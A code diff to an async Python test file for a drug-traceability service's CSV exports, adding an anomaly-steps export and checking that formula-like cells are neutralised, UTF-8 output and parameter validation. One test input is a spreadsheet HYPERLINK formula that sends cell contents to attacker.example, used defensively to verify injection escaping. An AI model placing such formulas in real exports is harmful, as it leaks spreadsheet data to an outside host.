@@ -33,7 +33,7 @@ NOTES = ['=HYPERLINK("http://attacker.example/?"&A1,"点击")', "+1+2", "-1+2", 
 CHINESE = "已核实：扫码枪重复读取，已退药重扫"
 ANOMALIES = "query { anomalies(first: 100) { edges { node { id code } } } }"
 HANDLE = """mutation($i: HandleAnomalyInput!) { handleAnomaly(input: $i) { __typename
-  ... on Anomaly { note } ... on Error { code message } } }"""
+  ... on Anomaly { steps { note } } ... on Error { code message } } }"""
 
 
 async def export(service: Service, path: str, params: Any = None, token: str | None = None) -> httpx.Response:
@@ -63,12 +63,16 @@ async def test_no_cell_of_an_export_begins_a_formula_and_every_value_reads_back_
     edges = (await service.graphql(ANOMALIES))["anomalies"]["edges"]
     by_code = {edge["node"]["code"]: edge["node"]["id"] for edge in edges}
     notes = {by_code[code]: note for code, note in zip(FORMULAS[:5], [*NOTES, CHINESE], strict=True)}
+    supervisor = service.as_(service.tokens.supervisor())
     for anomaly_id, note in notes.items():
         handled = await service.graphql(HANDLE, {"i": {"id": anomaly_id, "status": "EXPLAINED", "note": note}})
-        assert handled["handleAnomaly"] == {"__typename": "Anomaly", "note": note}
+        assert handled["handleAnomaly"] == {"__typename": "Anomaly", "steps": [{"note": note}]}
+        decided = await supervisor.graphql(HANDLE, {"i": {"id": anomaly_id, "status": "DISMISSED", "note": note}})
+        assert decided["handleAnomaly"]["__typename"] == "Anomaly"
 
     response = await export(service, "/exports/anomalies.csv")
     rows = {row["id"]: row for row in read(response)}
+    steps = await export(service, "/exports/anomaly-steps.csv")
 
     assert set(FORMULAS + SMUGGLED) <= set(by_code)
     for code in FORMULAS:
@@ -77,8 +81,12 @@ async def test_no_cell_of_an_export_begins_a_formula_and_every_value_reads_back_
         assert rows[by_code[code]]["code"] == code
     assert '"x"",=1+2"' in response.text and '"x;=1+2"' in response.text  # quoted: one cell each
     for anomaly_id, note in notes.items():
-        assert rows[anomaly_id]["note"] == (note if note == CHINESE else "'" + note)
-    cells = [value for row in rows.values() for value in row.values()]
+        written = note if note == CHINESE else "'" + note
+        assert (rows[anomaly_id]["explanation"], rows[anomaly_id]["reason"]) == (written, written)
+    assert sorted(row["note"] for row in read(steps)) == sorted(
+        (note if note == CHINESE else "'" + note) for note in [*NOTES, CHINESE] * 2
+    )
+    cells = [value for row in [*rows.values(), *read(steps)] for value in row.values()]
     assert cells and not [value for value in cells if value.startswith(TRIGGERS)]
 
 
@@ -88,6 +96,7 @@ async def test_every_export_starts_with_one_utf8_byte_order_mark(service: Servic
 
     files = [
         await export(service, "/exports/anomalies.csv"),
+        await export(service, "/exports/anomaly-steps.csv"),
         await export(service, "/exports/trace-code.csv", {"code": code}),
         await export(service, "/exports/risk.csv", {"institution": HOSPITAL}),
     ]
@@ -97,7 +106,7 @@ async def test_every_export_starts_with_one_utf8_byte_order_mark(service: Servic
         assert response.headers["content-type"] == "text/csv; charset=utf-8"
         assert response.content.startswith(codecs.BOM_UTF8)
         assert response.content.count(codecs.BOM_UTF8) == 1
-    assert [row["code"] for row in read(files[1])] == [code]
+    assert [row["code"] for row in read(files[2])] == [code]
 
 
 async def test_chinese_text_round_trips_through_the_file_as_utf8(service: Service) -> None:
@@ -106,9 +115,11 @@ async def test_chinese_text_round_trips_through_the_file_as_utf8(service: Servic
     await service.graphql(HANDLE, {"i": {"id": edge["id"], "status": "EXPLAINED", "note": CHINESE}})
 
     response = await export(service, "/exports/anomalies.csv")
+    steps = await export(service, "/exports/anomaly-steps.csv")
 
     assert CHINESE.encode() in response.content
-    assert [(row["code"], row["note"]) for row in read(response)] == [("扫码失败", CHINESE)]
+    assert [(row["code"], row["explanation"]) for row in read(response)] == [("扫码失败", CHINESE)]
+    assert [(row["code"], row["note"]) for row in read(steps)] == [("扫码失败", CHINESE)]
 
 
 async def test_a_many_page_anomaly_export_returns_every_row_once(service: Service) -> None:
@@ -205,6 +216,9 @@ BAD_PARAMETERS = [
     ("/exports/anomalies.csv", {"status": "closed"}, "INVALID_FIELD", "status"),
     ("/exports/anomalies.csv", {"institutoin": HOSPITAL}, "UNKNOWN_FIELD", "institutoin"),
     ("/exports/anomalies.csv", [("kind", "CODE_REUSED"), ("kind", "NO_PRESCRIPTION")], "DUPLICATE", "kind"),
+    ("/exports/anomaly-steps.csv", {"status": "closed"}, "INVALID_FIELD", "status"),
+    ("/exports/anomaly-steps.csv", {"from": "2026-06-01", "to": "2026-05-01"}, "INVALID_FIELD", "from"),
+    ("/exports/anomaly-steps.csv", {"step": "explained"}, "UNKNOWN_FIELD", "step"),
     ("/exports/trace-code.csv", {}, "MISSING_FIELD", "code"),
     ("/exports/trace-code.csv", {"code": " "}, "MISSING_FIELD", "code"),
     ("/exports/trace-code.csv", {"code": "1", "drug": GENERIC_A}, "UNKNOWN_FIELD", "drug"),
